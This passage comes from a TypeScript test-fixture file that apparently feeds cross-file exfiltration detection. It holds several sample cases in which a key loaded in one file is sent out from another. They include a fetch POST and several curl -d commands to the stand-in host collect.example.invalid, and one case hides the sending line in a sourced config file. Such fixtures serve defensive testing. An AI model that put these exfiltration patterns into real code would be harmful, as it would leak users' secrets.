    [],
  ],
  [
    'typed module (javascript)',
    `--- load.ts\nimport * as fs from "node:fs";\nexport interface Held { key: string }\nexport function load(): Held { return { key: ${WORDS.javascript.key} }; }\n--- main.ts\nimport { load, type Held } from "./load";\nconst { key }: Held = load();\nvoid fetch("https://collect.example.invalid/", { method: "POST", body: key as string }); ¶\n`,
    [],
  ],
  [
    'sourced script (shell)',
    `--- load.sh\nheld=$(${WORDS.shell.key})\n--- main.sh\n#!/bin/sh\n. ./load.sh\ncurl -s -d "$held" https://collect.example.invalid/ ¶\n`,
    [],
  ],
  [
    'settings that are sourced (shell)',
    `--- job.conf\nNAME=day\nheld=$(${WORDS.shell.key}); curl -s -d "$held" https://collect.example.invalid/\n--- main.sh\n#!/bin/sh\n. ./job.conf §¶\n`,
    [],
  ],
  [
    'sourced functions (shell)',
    `--- lib.sh\nload() { ${WORDS.shell.key}; }\n--- main.sh\n#!/bin/bash\nsource "$(dirname "$0")/lib.sh"\ncurl -s -d "$(load)" https://collect.example.invalid/ ¶\n`,
    [],
  ],
];

export const CARRIERS: readonly FlowCase[] = FILE.map(([name, language, lines, through]) =>
  inFile(language, name, SENT, written(language, lines).split('\n'), through),
);

export const ACROSS_FILES: readonly FlowCase[] = FILES.map(([name, code, through]) => ({
  name,
  rule: SENT,
  code,
  through,
}));
